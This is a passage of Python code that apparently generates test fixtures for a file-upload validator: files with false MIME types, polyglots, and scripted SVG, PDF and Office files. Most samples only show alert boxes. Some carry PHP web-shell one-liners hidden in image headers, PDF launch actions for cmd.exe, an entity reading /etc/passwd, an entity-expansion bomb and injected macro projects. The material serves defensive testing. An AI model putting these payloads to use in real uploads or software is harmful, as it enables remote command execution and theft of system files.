"""Files that are declared as what they are not, or that would do something by themselves when they are opened.

A row's reasons are those that fit, divided by `|`. Nothing here does any harm: scripts show a box, archives hold zeros.
"""

import io
import struct
import zipfile
import zlib

from record import disguised, hostile, of, written

TYPE = "type_mismatch"
NO_TYPE = "type_mismatch|type_unknown"
ACTIVE = "active_content"
ARCHIVE = "archive_invalid|archive_too_large|too_compressed"
PNG, JPEG, GIF, WEBP, SVG = "image/png", "image/jpeg", "image/gif", "image/webp", "image/svg+xml"
PDF, ZIP, MP4, TEXT, CSV, JSON, XML, MD = (
    "application/pdf", "application/zip", "video/mp4", "text/plain", "text/csv", "application/json", "text/xml", "text/markdown")
OOXML = "application/vnd.openxmlformats-officedocument."
DOCX, XLSX, PPTX = (OOXML + kind for kind in ("wordprocessingml.document", "spreadsheetml.sheet", "presentationml.presentation"))
XLS, DOC, PPT, ODT = "application/vnd.ms-excel", "application/msword", "application/vnd.ms-powerpoint", "application/vnd.oasis.opendocument.text"


def declared(path, *claims, reason=TYPE):
    """A real file of the corpus, under other names."""
    for claim in claims:
        disguised.append((path, claim, "see manifest.tsv", reason, "the corpus"))


# Real files under other names
declared("images/imagemagick.png", JPEG, GIF, PDF, TEXT, MP4, WEBP, DOCX)
declared("images/imagemagick.jpg", PNG, GIF, PDF, "image/heic", CSV)
declared("images/pillow.gif", PNG, JPEG, WEBP, MP4)
declared("images/cwebp-lossy.webp", PNG, JPEG, "audio/wav", "video/x-msvideo")
declared("images/imagemagick.bmp", PNG, TEXT)
declared("images/imagemagick-big-endian.tiff", JPEG, PNG)
declared("images/heif-enc.heic", JPEG, PNG, "image/avif", MP4)
declared("images/avifenc.avif", JPEG, "image/heic", MP4)
declared("images/cjxl-container.jxl", JPEG, "image/avif")
declared("images/gimp.xcf", PNG)
declared("images/gimp.psd", JPEG, PNG)
declared("images/inkscape.svg", PNG, JPEG, TEXT, XML, "text/html", MD)
declared("images/imagemagick.ico", PNG)
declared("documents/libreoffice.pdf", PNG, DOCX, TEXT, ZIP, "application/postscript")
declared("documents/cairo.ps", PDF, TEXT)
declared("documents/pandoc.epub", PDF, DOCX, ODT)
declared("office/libreoffice.rtf", PDF, DOC, TEXT)
declared("office/libreoffice.docx", XLSX, PPTX, PDF, ODT, DOC)
declared("office/libreoffice.xlsx", DOCX, PPTX, PDF, XLS, CSV)
declared("office/libreoffice.pptx", DOCX, XLSX, PDF)
declared("office/openpyxl-large.xlsx", DOCX, PPTX)
declared("office/docx-large.docx", XLSX, PPTX)
declared("office/libreoffice.odt", DOCX, "application/vnd.oasis.opendocument.spreadsheet")
declared("office/libreoffice.doc", DOCX, XLS, PPT, PDF, "application/vnd.ms-outlook")
declared("office/libreoffice.xls", XLSX, DOC, PPT)
declared("office/libreoffice.ppt", PPTX, DOC, XLS)
declared("office/xlsxwriter.xlsm", XLSX, DOCX, reason=f"{TYPE}|{ACTIVE}")
declared("office/microsoft-word-form-macros.docm", DOCX, PDF, reason=f"{TYPE}|{ACTIVE}")
declared("programs/wixl.msi", DOC, XLS, ZIP)
declared("archives/zip.zip", DOCX, XLSX, PPTX, ODT, PDF, PNG, "application/epub+zip")
declared("archives/python-office-like-names.zip", DOCX, XLSX, PPTX, ODT, "application/epub+zip")
declared("archives/python-empty.zip", DOCX, ODT)
declared("archives/jar.jar", DOCX, PNG)
declared("archives/7z.7z", ZIP, PDF)
declared("archives/rar-5.rar", ZIP, PDF)
declared("archives/gzip.gz", ZIP, PDF, SVG)
declared("archives/tar-gnu.tar", ZIP, TEXT, PDF)
declared("archives/tar-v7.tar", ZIP, TEXT, reason=NO_TYPE)
declared("archives/dpkg.deb", ZIP, PDF)
declared("archives/genisoimage.iso", ZIP, PDF, MP4, reason=NO_TYPE)
declared("programs/gcc.elf", TEXT, PDF, PNG, ZIP, "application/octet-stream", reason=f"{TYPE}|type_not_allowed")
declared("programs/mingw.exe", PDF, PNG, JPEG, DOCX, ZIP, TEXT)
declared("programs/mingw.dll", PDF, "audio/mpeg")
declared("programs/zig-mac-arm", PDF, PNG)
declared("programs/javac.class", PDF, JPEG)
declared("programs/zig.wasm", PDF, TEXT)
declared("media/ffmpeg.mp4", "video/webm", "video/x-msvideo", "image/heic", "audio/mpeg", PNG)
declared("media/ffmpeg.mkv", "video/webm", MP4)
declared("media/ffmpeg.webm", MP4, "video/x-matroska")
declared("media/ffmpeg.mov", "video/webm", "image/heic")
declared("media/ffmpeg.avi", "audio/wav", WEBP, MP4)
declared("media/lame.mp3", "audio/wav", "audio/mp4", MP4)
declared("media/ffmpeg.aac", "audio/mpeg", "audio/wav")
declared("media/sox.wav", "audio/mpeg", "video/x-msvideo", WEBP)
declared("media/oggenc.ogg", "audio/mpeg", "video/webm")
declared("media/ffmpeg.flac", "audio/mpeg", "audio/wav")
declared("media/ffmpeg.ts", "application/typescript", MP4, TEXT)
declared("media/ffmpeg.wmv", MP4, "video/x-msvideo")
declared("documents/fonttools.ttf", "font/woff", PNG)
declared("documents/fonttools.woff", "font/woff2", "font/ttf")
declared("others/sqlite3.sqlite", TEXT, CSV)
declared("others/pyarrow.parquet", CSV, JSON)
declared("texts/ascii.txt", PNG, JPEG, PDF, DOCX, ZIP, MP4, JSON, "text/vtt", "text/calendar", XML, reason=NO_TYPE)
declared("texts/comma.csv", JSON, XLSX, XLS, PDF, reason=NO_TYPE)
declared("texts/object.json", PNG, XML, "text/vtt", reason=NO_TYPE)
declared("texts/event.ics", JSON, "text/vcard", "text/vtt", reason=NO_TYPE)
declared("texts/xml.xml", JSON, SVG, "text/html", reason=NO_TYPE)
for name in ("begins-bm", "begins-mz", "begins-gif", "begins-gif89a", "begins-id3", "begins-pk", "begins-riff", "begins-ogg", "begins-pdf", "begins-flac"):
    claims = {"begins-bm": "image/bmp", "begins-mz": "application/vnd.microsoft.portable-executable", "begins-gif": GIF, "begins-gif89a": GIF,
              "begins-id3": "audio/mpeg", "begins-pk": ZIP, "begins-riff": "audio/wav", "begins-ogg": "audio/ogg", "begins-pdf": PDF,
              "begins-flac": "audio/flac"}
    declared(f"texts/{name}.txt", claims[name], reason=NO_TYPE)

# Pages and scripts as pictures, documents and text
PAGE = "<!DOCTYPE html>\n<html><body><script>alert(document.domain)</script></body></html>\n"
for path in ("doctype.html", "fragment.html", "shell.sh", "php.php", "script.js"):
    declared(f"texts/{path}", PNG, JPEG, GIF, PDF, MP4, reason=NO_TYPE)
for path in ("doctype.html", "html-comment-first.html", "upper-case.html", "html-bom.html", "html-space-first.html", "body-only.html",
             "head-only.html", "html-script.html", "html-utf-16.html", "html-4.html"):
    declared(f"texts/{path}", TEXT, CSV, JSON, reason=NO_TYPE)
for path in ("shell.sh", "bash.sh", "shebang-python.py", "perl.pl", "ruby.rb", "shebang-node.js", "php.php"):
    declared(f"texts/{path}", TEXT, CSV, JSON, reason=NO_TYPE)
declared("texts/doctype.html", MD, SVG, XML, "text/vtt", "text/calendar", reason=NO_TYPE)
declared("texts/xhtml.xhtml", TEXT, XML, SVG, reason=f"{TYPE}|{ACTIVE}")

D = "disguised/"
hostile(D + "html-after-whitespace.txt", TEXT, "HTML after 1 KiB of spaces", TYPE, " \n" * 700 + PAGE)
hostile(D + "html-after-8-kib-of-whitespace.txt", TEXT, "HTML after 8 KiB of spaces", NO_TYPE, " " * 8400 + PAGE)
hostile(D + "html-after-comment.txt", TEXT, "HTML after a comment of 1 KiB", TYPE, f"<!--{'x' * 1500}-->" + PAGE)
hostile(D + "html-after-comments.txt", TEXT, "HTML after many comments", TYPE, "<!-- x -->\n" * 300 + PAGE)
hostile(D + "html-after-words.txt", TEXT, "HTML after a line of text", TYPE + "|" + ACTIVE, "Hello\n" + PAGE)
hostile(D + "html-utf-16-le-bom.txt", TEXT, "HTML in UTF-16", TYPE, ("\ufeff" + PAGE).encode("utf-16-le"))
hostile(D + "html-utf-16-be-bom.txt", TEXT, "HTML in UTF-16", TYPE, ("\ufeff" + PAGE).encode("utf-16-be"))
hostile(D + "html-utf-16-le.txt", TEXT, "HTML in UTF-16 without a mark", NO_TYPE, PAGE.encode("utf-16-le"))
hostile(D + "html-utf-16-after-comment.csv", CSV, "HTML in UTF-16 after a comment", TYPE, ("\ufeff<!-- a -->" + PAGE).encode("utf-16-be"))
hostile(D + "html-script-in-the-first-cell.csv", CSV, "a script in HTML", TYPE, "<script>alert(1)</script>,b\n1,2\n")
hostile(D + "html-odd-case.txt", TEXT, "HTML", TYPE, "<hTmL><BoDy OnLoAd=alert(1)>\n")
hostile(D + "html-img-onerror.txt", TEXT, "HTML", TYPE, "<img src=x onerror=alert(1)>\n")
hostile(D + "html-iframe.txt", TEXT, "HTML", TYPE, '<iframe src="https://example.com"></iframe>\n')
hostile(D + "html-svg-inline.txt", TEXT, "SVG in HTML", TYPE, "<svg onload=alert(1)>\n")
hostile(D + "html-latin-1.txt", TEXT, "HTML in Latin-1", NO_TYPE, "<html><title>Zoë</title><script>alert(1)</script>".encode("latin-1"))
hostile(D + "html-document-as.md", MD, "HTML", TYPE, PAGE)
hostile(D + "html-script-as.md", MD, "HTML", TYPE, "<script>alert(1)</script>\n\n# River\n")
hostile(D + "html-as.svg", SVG, "HTML that holds an SVG", TYPE, f"<html><body>{of('images/hand.svg').decode()}<script>alert(1)</script></body></html>")
hostile(D + "html-as.eml.txt", TEXT, "HTML after what looks like a header", TYPE + "|" + ACTIVE, "<html>\nSubject: a\n\n<script>alert(1)</script>")
hostile(D + "html-in-png-header.png", PNG, "HTML after PNG's first 8 bytes", "type_unknown", b"\x89PNG\r\n\x1a\n" + PAGE.encode())
hostile(D + "html-in-jpeg-header.jpg", JPEG, "HTML after JPEG's first 3 bytes", "type_unknown", b"\xff\xd8\xff" + PAGE.encode())
hostile(D + "html-in-gif-header.gif", GIF, "HTML that begins as a GIF", f"{NO_TYPE}|{ACTIVE}", b"GIF89a" + PAGE.encode())
hostile(D + "js-in-gif-header.gif", GIF, "JavaScript that begins as a GIF", f"{NO_TYPE}|{ACTIVE}", b"GIF89a=1;alert(1);//" + b" " * 20)
hostile(D + "html-in-bmp-header.bmp", "image/bmp", "HTML that begins as a BMP", f"{NO_TYPE}|{ACTIVE}", b"BM" + PAGE.encode())
hostile(D + "html-in-pdf-comment.pdf", PDF, "HTML in front of a PDF", f"{NO_TYPE}|{ACTIVE}", PAGE.encode() + of("documents/cairo.pdf"))
hostile(D + "html-in-mp3-header.mp3", "audio/mpeg", "HTML that begins as ID3", "type_unknown", b"ID3\x03\x00\x00\x00\x00\x00\x00" + PAGE.encode())
hostile(D + "html-in-riff.webp", WEBP, "HTML that begins as RIFF", "type_unknown", b"RIFF\xff\xff\xff\xffWEBP" + PAGE.encode())
hostile(D + "html-in-ftyp.mp4", MP4, "HTML after an ftyp box", f"{NO_TYPE}|{ACTIVE}", b"\0\0\0\x18ftypisom\0\0\0\0isommp42" + PAGE.encode())
hostile(D + "zip-in-ftyp.mp4", MP4, "a ZIP after an ftyp box", NO_TYPE, b"\0\0\0\x18ftypisom\0\0\0\0isommp42" + of("archives/zip.zip"))
hostile(D + "exe-in-ftyp.heic", "image/heic", "a program after an ftyp box", NO_TYPE, b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + of("programs/mingw.exe"))
hostile(D + "php-in-gif-header.gif", GIF, "PHP that begins as a GIF", f"{NO_TYPE}|{ACTIVE}", b"GIF89a<?php system($_GET['c']); ?>")
hostile(D + "php-in-png-header.png", PNG, "PHP after PNG's first 8 bytes", "type_unknown", b"\x89PNG\r\n\x1a\n<?php system($_GET['c']); ?>")
hostile(D + "php-short-tag.txt", TEXT, "PHP", TYPE, "<?= system($_GET['c']) ?>\n")
hostile(D + "php-upper-case.txt", TEXT, "PHP", TYPE, "<?PHP system($_GET['c']); ?>\n")
hostile(D + "php-after-newline.csv", CSV, "PHP", TYPE, "\n\n<?php system($_GET['c']); ?>\n")
hostile(D + "shell-bom.txt", TEXT, "a shell script after a BOM", TYPE, "\ufeff#!/bin/sh\necho hi\n")
hostile(D + "shell-crlf.csv", CSV, "a shell script", TYPE, "#!/bin/sh\r\necho hi\r\n")
hostile(D + "shell-space.txt", TEXT, "a shell script", TYPE, "#! /usr/bin/env -S bash -e\necho hi\n")
hostile(D + "batch-that-names-a-pdf.pdf", PDF, "a batch file with a PDF's mark", TYPE, "@echo off\r\nstart calc.exe\r\nrem %PDF-1.4\r\n")
hostile(D + "batch-with-a-pdf.pdf", PDF, "a batch file before a PDF", NO_TYPE, b"@start calc.exe\r\n@exit\r\n" + of("documents/cairo.pdf"))
declared("archives/tar-of-a-pdf.tar", PDF)
hostile(D + "batch.txt", "image/png", "a batch file", NO_TYPE, "@echo off\r\ndir\r\n")
hostile(D + "xml-stylesheet.xml", XML, "XML with a stylesheet that runs", ACTIVE + "|" + TYPE,
        '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="https://example.com/a.xsl"?>\n<note/>\n')
hostile(D + "xml-with-xhtml-script.xml", XML, "XML that holds an XHTML script", ACTIVE + "|" + TYPE,
        '<?xml version="1.0"?>\n<note><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></note>\n')
hostile(D + "xml-with-xhtml-handler.xml", XML, "XML that holds an XHTML handler", ACTIVE,
        '<?xml version="1.0"?>\n<note xmlns:h="http://www.w3.org/1999/xhtml"><h:img src="x" onerror="alert(1)"/></note>\n')
hostile(D + "xml-svg-script.xml", XML, "SVG with a script", ACTIVE + "|" + TYPE,
        '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n')
hostile(D + "json-with-words-after.json", JSON, "JSON and then HTML", NO_TYPE, '{"a": 1}<script>alert(1)</script>')
hostile(D + "json-single-quotes.json", JSON, "text", NO_TYPE, "{'a': 1}")
hostile(D + "json-unquoted.json", JSON, "JavaScript", NO_TYPE, "{a: 1}")
hostile(D + "json-callback.json", JSON, "JavaScript", NO_TYPE, 'callback({"a": 1})')
hostile(D + "json-unclosed.json", JSON, "half of a JSON", NO_TYPE, '{"a": [1, 2')
hostile(D + "nul-in-text.txt", TEXT, "text with a NUL", NO_TYPE, b"hello\0world\n")
hostile(D + "noise.txt", TEXT, "noise", NO_TYPE, zlib.compress(bytes(range(256)) * 9)[2:])
hostile(D + "text-then-binary.csv", CSV, "text, then a program", NO_TYPE, b"name,city\n" * 40 + of("programs/mingw.exe")[:3000])
hostile(D + "calendar-unnamed.ics", "text/calendar", "text", NO_TYPE, "VERSION:2.0\r\nBEGIN:VEVENT\r\nEND:VEVENT\r\n")

def stored(out, name, content):
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, content)


# Two things at once. What is truly a picture or a document stands in manifest.tsv under its true name.
P = "polyglots/"
written(P + "jpeg-with-php-comment.jpg", JPEG,
        of("images/imagemagick.jpg")[:2] + b"\xff\xfe\x00\x20<?php system($_GET['c']); ?>  " + of("images/imagemagick.jpg")[2:])
declared(P + "jpeg-with-php-comment.jpg", "application/x-httpd-php", TEXT)
written(P + "gif-with-html-comment.gif", GIF, of("images/pillow.gif")[:-1] + b"\x21\xfe\x19<script>alert(1)</script>\x00\x3b")
declared(P + "gif-with-html-comment.gif", "text/html", TEXT)
for kind, host in (("jpeg", "images/imagemagick.jpg"), ("png", "images/imagemagick.png"), ("gif", "images/pillow.gif"), ("pdf", "documents/cairo.pdf")):
    written(f"{P}{kind}-then-zip.{kind}", {"pdf": PDF}.get(kind, f"image/{kind}"), of(host) + of("archives/zip.zip"))
    declared(f"{P}{kind}-then-zip.{kind}", ZIP, DOCX)
hostile(P + "gif-and-javascript.gif", GIF, "JavaScript that is a GIF's header", NO_TYPE,
        b"GIF89a/*" + b"\0" * 9 + b"*/=1;alert(1);//")
hostile(P + "gif-and-html.gif", GIF, "HTML behind a GIF's header", NO_TYPE, b"GIF89a\x20\x20\x20\x20<html><script>alert(1)</script></html>")
hostile(P + "html-and-pdf.pdf", PDF, "HTML that a PDF begins in", NO_TYPE, b"<html><!--\n" + of("documents/cairo.pdf") + b"--><script>alert(1)</script>")
hostile(P + "zip-and-pdf.pdf", PDF, "a ZIP with a PDF stored in it", NO_TYPE, lambda out: stored(out, "a.pdf", of("documents/cairo.pdf")))
hostile(P + "script-and-pdf.pdf", PDF, "a shell script that a PDF begins in", NO_TYPE, b"#!/bin/sh\necho hi\nexit\n" + of("documents/cairo.pdf"))
hostile(P + "exe-and-pdf.pdf", PDF, "a program that a PDF begins in", NO_TYPE, b"MZ" + b"\0" * 98 + of("documents/cairo.pdf"))
hostile(P + "jar-and-gif.gif", "application/java-archive", "a GIF with a JAR behind it", TYPE, of("images/pillow.gif") + of("archives/jar.jar"))
hostile(P + "docx-then-zip.docx", DOCX, "a ZIP behind a document", f"{TYPE}|archive_invalid", of("office/docx.docx") + of("archives/zip.zip"))

# SVG that does something
S = "svg/"
NS = 'xmlns="http://www.w3.org/2000/svg"'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'


def svg(name, inside, head="", attributes="", encode="utf-8", reason=ACTIVE):
    hostile(f"{S}{name}.svg", SVG, name.replace("-", " "), reason, f"{head}<svg {NS} {attributes}>{inside}</svg>\n".encode(encode))


svg("script", "<script>alert(1)</script>")
svg("script-in-cdata", "<script><![CDATA[alert(1)]]></script>")
svg("script-with-a-type", '<script type="text/ecmascript">alert(1)</script>')
svg("script-from-elsewhere", '<script href="https://example.com/a.js"/>')
svg("script-from-elsewhere-by-xlink", '<script xlink:href="https://example.com/a.js"/>', attributes=XLINK)
svg("script-with-a-prefix", '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>')
svg("script-of-xhtml", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>')
svg("script-after-8-kib", f"<!--{'x' * 9000}--><script>alert(1)</script>")
svg("script-after-100-kb", "<g/>" * 25000 + "<script>alert(1)</script>")
svg("script-after-a-long-comment", "<script>alert(1)</script>", head=f"<!--{'x' * 2000}-->")
svg("script-after-whitespace", "<script>alert(1)</script>", head=" \n" * 800)
svg("script-after-declaration-and-comments", "<script>alert(1)</script>", head='<?xml version="1.0"?>' + "<!-- x -->\n" * 400)
svg("script-in-utf-16-le", "<script>alert(1)</script>", head="\ufeff", encode="utf-16-le")
svg("script-in-utf-16-be", "<script>alert(1)</script>", head='\ufeff<?xml version="1.0" encoding="UTF-16"?>', encode="utf-16-be")
svg("script-in-utf-16-without-mark", "<script>alert(1)</script>", head='<?xml version="1.0" encoding="UTF-16"?>', encode="utf-16-le", reason="type_unknown")
svg("script-in-utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", head='<?xml version="1.0" encoding="UTF-7"?>')
svg("script-behind-bom", "<script>alert(1)</script>", head="\ufeff")
svg("script-element-across-lines", "<script\n\n>alert(1)</script\n>")
svg("onload", "<g/>", attributes='onload="alert(1)"')
svg("onload-with-single-quotes", "<g/>", attributes="onload='alert(1)'")
svg("onload-across-lines", "<g/>", attributes='onload\n=\n"alert(1)"')
svg("onclick-inside", '<circle r="4" onclick="alert(1)"/>')
svg("onmouseover-inside", '<g><g><path d="M0 0" onmouseover="alert(1)"/></g></g>')
svg("onbegin", '<animate attributeName="x" dur="1s" onbegin="alert(1)"/>')
svg("onerror", '<image href="x" onerror="alert(1)"/>')
svg("foreign-object", '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://example.com"/></body></foreignObject>')
svg("foreign-object-with-form", '<foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="https://example.com"/></foreignObject>')
svg("javascript-link", '<a href="javascript:alert(1)"><circle r="4"/></a>')
svg("javascript-xlink", '<a xlink:href="javascript:alert(1)"><circle r="4"/></a>', attributes=XLINK)
svg("javascript-link-in-entities", '<a href="java&#115;cript:alert(1)"><circle r="4"/></a>')
svg("javascript-link-in-hex-entities", '<a href="&#x6a;avascript&#x3A;alert(1)"><circle r="4"/></a>')
svg("javascript-link-with-tab", '<a href="java&#9;script:alert(1)"><circle r="4"/></a>')
svg("javascript-link-with-space", '<a href="  JavaScript:alert(1)"><circle r="4"/></a>')
svg("javascript-by-animation", '<a><animate attributeName="href" values="javascript:alert(1)"/><circle r="4"/></a>')
svg("javascript-by-set", '<a><set attributeName="xlink:href" to="javascript:alert(1)"/><circle r="4"/></a>', attributes=XLINK)
svg("handler-by-set", '<circle r="4"><set attributeName="onmouseover" to="alert(1)"/></circle>')
svg("image-from-elsewhere", '<image href="https://example.com/a.png"/>')
svg("image-from-elsewhere-by-xlink", '<image xlink:href="http://example.com/a.png"/>', attributes=XLINK)
svg("image-from-elsewhere-without-scheme", '<image href="//example.com/a.png"/>')
svg("use-from-elsewhere", '<use href="https://example.com/a.svg#x"/>')
svg("use-of-data", '<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>')
svg("data-html-link", '<a href="data:text/html,&lt;script>alert(1)&lt;/script>"><circle r="4"/></a>')
svg("style-import", "<style>@import url(https://example.com/a.css);</style>")
svg("style-url", '<rect style="fill: url(https://example.com/a.svg#x)"/>')
svg("stylesheet", "<g/>", head='<?xml version="1.0"?><?xml-stylesheet href="https://example.com/a.xsl" type="text/xsl"?>')
svg("entity-with-script", "&x;", head=f"<!DOCTYPE svg [<!ENTITY x '<script {NS}>alert(1)</script>'>]>")
svg("entity-in-link", '<a href="&x;"><circle r="4"/></a>', head="<!DOCTYPE svg [<!ENTITY x 'javascript:alert(1)'>]>")
svg("entity-from-elsewhere", "&x;", head='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
svg("entities-that-multiply", "&d;",
    head='<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;">]>')
svg("iframe", '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>')
svg("embed", '<embed xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>')
svg("handler-element", '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>')
svg("style-import-in-a-reference", '<style>@&#105;mport "https://example.com/a.css";</style>')
svg("style-import-around-a-comment", '<style>@im<!-- -->port "https://example.com/a.css";</style>')
svg("style-import-behind-an-element", "<style><b></b>@import url(//example.com/a.css);</style>")
svg("style-import-escaped", '<style>@\\69mport "https://example.com/a.css";</style>')
svg("style-url-escaped", '<rect style="fill:\\75rl(https://example.com/a.svg#x)"/>')
svg("style-image-set", '<style>rect{cursor:image-set("https://example.com/a.png" 1x)}</style>')
svg("refresh-of-xhtml", '<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://example.com/"/>')
svg("picture-of-xhtml", '<h:img xmlns:h="http://www.w3.org/1999/xhtml" srcset="https://example.com/a.png"/>')
hostile(S + "not-closed.svg", SVG, "half of an SVG", ACTIVE, f"<svg {NS}><script>alert(1)")
hostile(S + "without-namespace.svg", SVG, "an element named svg of no namespace", ACTIVE, "<svg><script>alert(1)</script></svg>")
hostile(S + "other-root-first.svg", SVG, "XHTML that holds an SVG", TYPE,
        f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><svg {NS}/><script>alert(1)</script></html>')
hostile(S + "svg-in-a-comment.svg", SVG, "HTML with an SVG in a comment", TYPE, f"<!-- <svg {NS}> -->" + PAGE)

# PDF that does something
Q = "pdf/"


def pdf(name, catalog, *objects, reason=ACTIVE, claims=PDF):
    """A PDF of one empty page, with more in its catalog and more objects from number 4."""
    body = [f"<< /Type /Catalog /Pages 2 0 R {catalog} >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>", *objects]
    out, offsets = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, text in enumerate(body, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{text}\nendobj\n".encode("latin-1")
    table = f"xref\n0 {len(body) + 1}\n0000000000 65535 f \n" + "".join(f"{offset:010} 00000 n \n" for offset in offsets)
    out, start = out + table.encode(), len(out)
    out += f"trailer\n<< /Size {len(body) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
    hostile(f"{Q}{name}.pdf", claims, "a PDF: " + name.replace("-", " "), reason, out)
    return out


def packed(name, dictionary, body):
    """A PDF whose actions are in a packed list of objects."""
    pdf(name, "/OpenAction 5 0 R", f"<< {dictionary} /N 1 /First 4 /Length {len(body)} >>\nstream\n{body.decode('latin-1')}\nendstream")


LIST = b"5 0 << /S /JavaScript /JS (app.alert\\(1\\); app.alert\\(2\\)) >>"
packed("javascript-in-a-list-in-hex", "/Type /Obj#53tm /Filter /FlateDecode", zlib.compress(LIST))
packed("javascript-in-a-list-as-letters", "/Filter /ASCIIHexDecode /Type /ObjStm", LIST.hex().encode() + b">")
packed("javascript-in-a-list-packed-twice", "/Type /ObjStm /Filter [/FlateDecode /FlateDecode]", zlib.compress(zlib.compress(LIST)))
packed("javascript-in-a-list-far-behind", f"/Type /ObjStm /Filter /FlateDecode /X ({'x' * 1000})", zlib.compress(LIST))
JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
pdf("javascript-on-open", f"/OpenAction {JS}")
pdf("javascript-on-open-elsewhere", "/OpenAction 4 0 R", JS)
pdf("javascript-by-name", "/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", JS)
pdf("javascript-in-hex", "/OpenAction 4 0 R", "<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")
pdf("javascript-all-in-hex", "/Open#41ction 4 0 R", "<< /#53 /#4A#61#76#61#53#63#72#69#70#74 /#4a#53 (app.alert\\(1\\)) >>")
pdf("javascript-in-a-stream", "/OpenAction 4 0 R", "<< /S /JavaScript /JS 5 0 R >>", "<< /Length 13 >>\nstream\napp.alert(1);\nendstream")
pdf("javascript-without-spaces", "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")
pdf("javascript-across-lines", "/OpenAction\n<<\n/S\n/JavaScript\n/JS\n(app.alert\\(1\\))\n>>")
pdf("javascript-on-a-page", "/AA << /WC 4 0 R >>", JS)
pdf("javascript-after-padding", "/OpenAction 5 0 R", "(" + "x" * 20000 + ")", JS)
pdf("launch", "/OpenAction << /S /Launch /F (cmd.exe) >>")
pdf("launch-in-hex", "/OpenAction << /S /L#61unch /F (cmd.exe) >>")
pdf("embedded-file", "/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
    "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream")
pdf("embedded-file-in-hex", "/Names << /Embedded#46iles << /Names [(a.exe) 4 0 R] >> >>",
    "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", "<< /Type /Embedded#46ile /Length 2 >>\nstream\nMZ\nendstream")
pdf("submit-form-on-open", "/OpenAction << /S /SubmitForm /F (https://example.com) >>")
pdf("import-data-on-open", "/OpenAction << /S /ImportData /F (a.fdf) >>")
pdf("rich-media", "/Names << /RichMedia 4 0 R >>", "<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>")
pdf("xfa-form", "/AcroForm << /XFA 4 0 R >>", "<< /Length 11 >>\nstream\n<xdp:xdp/>\n\nendstream")


def with_javascript(out, object_streams):
    import pikepdf
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    document.save(out, object_stream_mode=mode)


def with_attachment(out):
    import pikepdf
    document = pikepdf.new()
    document.add_blank_page()
    document.attachments["a.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")
    document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)


hostile(Q + "pikepdf-javascript.pdf", PDF, "a PDF with JavaScript", ACTIVE, lambda out: with_javascript(out, False), "pikepdf")
hostile(Q + "pikepdf-javascript-in-an-object-stream.pdf", PDF, "a PDF with JavaScript in a packed object", ACTIVE,
        lambda out: with_javascript(out, True), "pikepdf")
hostile(Q + "pikepdf-attachment.pdf", PDF, "a PDF with a program attached", ACTIVE, with_attachment, "pikepdf")

# Office files with macros under the names of those without
A = "office-active/"


def repacked(out, source, change):
    """A copy of a ZIP, with `change(name, bytes)` for every entry and `change(None, None)` for more of them."""
    with zipfile.ZipFile(io.BytesIO(of(source))) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            new.writestr(entry.filename, change(entry.filename, old.read(entry)))
        for name, content in change(None, None):
            new.writestr(name, content)


def macro(folder):
    ole = of("office/cfb.msg")
    return lambda name, content: [(f"{folder}/vbaProject.bin", ole)] if name is None else content


hostile(A + "docx-with-macros.docx", DOCX, "a document with macros", f"{ACTIVE}|{TYPE}", lambda out: repacked(out, "office/docx.docx", macro("word")))
hostile(A + "xlsx-with-macros.xlsx", XLSX, "a workbook with macros", f"{ACTIVE}|{TYPE}", lambda out: repacked(out, "office/openpyxl.xlsx", macro("xl")))
hostile(A + "pptx-with-macros.pptx", PPTX, "a presentation with macros", f"{ACTIVE}|{TYPE}", lambda out: repacked(out, "office/python-pptx.pptx", macro("ppt")))


def listed(kind, part, instead_of=None):
    """Changes a document so that its list of content types names one more part, or the main part as something else."""
    def change(name, content):
        if name is None:
            return [(part, b"x")]
        if name != "[Content_Types].xml":
            return content
        if instead_of:
            content = content.replace(instead_of.encode(), kind.encode())
            kind_of_part = instead_of
        else:
            kind_of_part = kind
